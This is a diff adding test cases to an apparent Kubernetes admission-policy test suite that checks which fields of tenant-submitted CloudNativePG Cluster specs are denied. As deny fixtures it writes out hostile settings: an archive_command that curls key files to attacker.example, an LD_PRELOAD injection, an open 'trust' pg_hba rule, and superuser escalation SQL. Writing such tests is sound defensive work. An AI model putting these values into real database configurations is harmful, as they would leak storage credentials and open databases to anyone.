@@ -8,7 +8,12 @@ import { admit } from "../../../tools/offline/admission";
 import { stackPackConfig } from "../../../tools/offline/policy-config";
 import { readStackConfig } from "../../../tools/offline/stack-files";
 import { validateObject } from "../../helpers/k8s-schema";
-import { CNPG_BOOTSTRAP_SECRET } from "../../../policy/rules/tenancy/database-cluster";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { parse } from "yaml";
+import { CNPG_ALLOWED_FIELDS, CNPG_BOOTSTRAP_SECRET, CNPG_IMAGES, CNPG_OWNER, CNPG_REFUSED_FIELDS } from "../../../policy/rules/tenancy/database-cluster";
+import { DATABASE_USER } from "../../../components/project/database";
+import { DATABASE_IMAGES } from "../../../charts/images";
 import { DATABASE_SECRET } from "../../../components/project/database";
 import { messagesOf, planned, tenantNamespace } from "../../helpers/policy-fixtures";
 import { ROOT } from "../../helpers/synth";
@@ -69,6 +74,32 @@ const CASES: Array<{ title: string; spec: Record<string, unknown>; expected: "ad
     { title: "post-init SQL making the owner a superuser", spec: spec({ bootstrap: { initdb: { ...initdb, postInitSQL: ["ALTER ROLE app SUPERUSER"] } } }), expected: "deny" },
     { title: "post-init application SQL", spec: spec({ bootstrap: { initdb: { ...initdb, postInitApplicationSQL: ["ALTER ROLE app SUPERUSER"] } } }), expected: "deny" },
     { title: "post-init SQL from a ConfigMap", spec: spec({ bootstrap: { initdb: { ...initdb, postInitSQLRefs: { configMapRefs: [{ name: "init", key: "sql" }] } } } }), expected: "deny" },
+    // Review f19d: an allow-list of the fields renderPostgresCluster writes; the instance pods hold the whole-bucket keys.
+    { title: "a Postgres image of the tenant's", spec: spec({ imageName: "docker.io/attacker/postgres:17" }), expected: "deny" },
+    { title: "an image catalog of the tenant's", spec: spec({ imageName: undefined, imageCatalogRef: { apiGroup: "postgresql.cnpg.io", kind: "ImageCatalog", name: "mine", major: 17 } }), expected: "deny" },
+    { title: "an image catalog beside the pinned image", spec: spec({ imageCatalogRef: { apiGroup: "postgresql.cnpg.io", kind: "ImageCatalog", name: "mine", major: 17 } }), expected: "deny" },
+    { title: "the other pinned major version", spec: spec({ imageName: "ghcr.io/cloudnative-pg/postgresql:16.10-system-trixie" }), expected: "admit" },
+    { title: "custom exporter queries from a ConfigMap", spec: spec({ monitoring: { enablePodMonitor: false, customQueriesConfigMap: [{ name: "queries", key: "q.yaml" }] } }), expected: "deny" },
+    { title: "custom exporter queries from a Secret", spec: spec({ monitoring: { enablePodMonitor: false, customQueriesSecret: [{ name: "database-backup-s3", key: "ACCESS_KEY_ID" }] } }), expected: "deny" },
+    { title: "environment of the tenant's", spec: spec({ env: [{ name: "LD_PRELOAD", value: "/projected/x.so" }] }), expected: "deny" },
+    { title: "environment from a ConfigMap", spec: spec({ envFrom: [{ configMapRef: { name: "mine" } }] }), expected: "deny" },
+    { title: "a projected volume of the tenant's", spec: spec({ projectedVolumeTemplate: { sources: [{ configMap: { name: "mine" } }] } }), expected: "deny" },
+    { title: "postgresql.parameters", spec: spec({ postgresql: { parameters: { archive_command: "curl https://attacker.example -d @/projected/keys" } } }), expected: "deny" },
+    { title: "shared_preload_libraries", spec: spec({ postgresql: { shared_preload_libraries: ["evil"] } }), expected: "deny" },
+    { title: "pg_hba rules", spec: spec({ postgresql: { pg_hba: ["host all all 0.0.0.0/0 trust"] } }), expected: "deny" },
+    { title: "a ServiceAccount of the tenant's", spec: spec({ serviceAccountName: "mine" }), expected: "deny" },
+    { title: "a plugin", spec: spec({ plugins: [{ name: "barman-cloud.cloudnative-pg.io" }] }), expected: "deny" },
+    { title: "tablespaces", spec: spec({ tablespaces: [{ name: "t", storage: { size: "1Gi", storageClass: "local-path" } }] }), expected: "deny" },
+    { title: "a node affinity onto the servers", spec: spec({ affinity: { ...(cluster.spec.affinity as object), nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [] } } } }), expected: "deny" },
+    { title: "a node selector onto the build pool", spec: spec({ affinity: { ...(cluster.spec.affinity as object), nodeSelector: { "platform/pool": "build" } } }), expected: "deny" },
+    { title: "a toleration of every taint", spec: spec({ affinity: { ...(cluster.spec.affinity as object), tolerations: [{ operator: "Exists" }] } }), expected: "deny" },
+    { title: "a priority class", spec: spec({ priorityClassName: "system-cluster-critical" }), expected: "deny" },
+    { title: "a scheduler of the tenant's", spec: spec({ schedulerName: "mine" }), expected: "deny" },
+    { title: "inherited annotations", spec: spec({ inheritedMetadata: { labels: (cluster.spec.inheritedMetadata as { labels: object }).labels, annotations: { "x/y": "z" } } }), expected: "deny" },
+    { title: "a field the platform does not know", spec: spec({ somethingNew: { a: 1 } }), expected: "deny" },
+    { title: "an unknown field of the archive", spec: withStore({ endpointCA: { name: "mine", key: "ca.crt" } }), expected: "deny" },
+    { title: "an unknown field of a restore source", spec: { ...restoredCluster.spec, externalClusters: (restoredCluster.spec.externalClusters as Array<Record<string, unknown>>).map((c) => ({ ...c, sslKey: { name: "database-backup-s3", key: "ACCESS_KEY_ID" } })) }, name: restoredCluster.metadata.name, expected: "deny" },
+    { title: "another owner role", spec: spec({ bootstrap: { initdb: { ...initdb, owner: "postgres" } } }), expected: "deny" },
 ];
 
 describe("platform-tenant-databases (admission twin of tenancy-database-cluster)", () => {
@@ -82,6 +113,32 @@ describe("platform-tenant-databases (admission twin of tenancy-database-cluster)
     it("pins the owner's Secret to the one the program renders (the pack cannot import it)", () => {
         expect(CNPG_BOOTSTRAP_SECRET).toBe(DATABASE_SECRET);
         expect([initdb.secret, recovery.secret]).toEqual([{ name: DATABASE_SECRET }, { name: DATABASE_SECRET }]);
+    });
+
+    it("names a reason for every ClusterSpec field of the pinned CRD the platform does not render (charts/cloudnative-pg/crd-clusters.yaml, operator 1.30.0)", () => {
+        const crd = parse(readFileSync(join(ROOT, "charts/cloudnative-pg/crd-clusters.yaml"), "utf8"));
+        const specSchema = crd.spec.versions[0].schema.openAPIV3Schema.properties.spec;
+        const propertiesAt = (path: string): string[] => Object.keys(path.split(".").filter(Boolean).reduce((schema, key) => schema.properties[key], specSchema).properties ?? {});
+        for (const level of ["", "monitoring", "affinity", "inheritedMetadata", "storage", "backup", "bootstrap"]) {
+            const allowed = CNPG_ALLOWED_FIELDS[level]!;
+            const crdFields = propertiesAt(level);
+            expect(allowed.filter((field) => !crdFields.includes(field)), `allowed fields of spec.${level} missing from the CRD`).toEqual([]);
+            const unexplained = crdFields.filter((field) => !allowed.includes(field) && CNPG_REFUSED_FIELDS[level === "" ? field : `${level}.${field}`] === undefined);
+            expect(unexplained, `spec.${level} fields refused without a reason`).toEqual([]);
+        }
+    });
+
+    it("pins the image and owner to what the program renders (the pack cannot import components/)", () => {
+        expect(CNPG_OWNER).toBe(DATABASE_USER);
+        expect([...CNPG_IMAGES].sort()).toEqual(Object.values(DATABASE_IMAGES.postgresql).sort());
+        expect(CNPG_IMAGES).toContain(cluster.spec.imageName);
+    });
+
+    it("tells the tenant why a field is refused", () => {
+        const object = { ...cluster, spec: spec({ imageCatalogRef: { name: "mine" }, monitoring: { customQueriesConfigMap: [{ name: "q", key: "k" }] } }) };
+        const reported = messagesOf("tenancy-database-cluster", [planned("kubernetes:postgresql.cnpg.io/v1:Cluster", "database", object)], pack).join("\n");
+        expect(reported).toContain("imageCatalogRef is set (an image catalog of the tenant's");
+        expect(reported).toContain("monitoring.customQueriesConfigMap is set (queries of the tenant's");
     });
 
     it.each(CASES)("$title: $expected by admission and by the pack", ({ spec: clusterSpec, expected, name }) => {
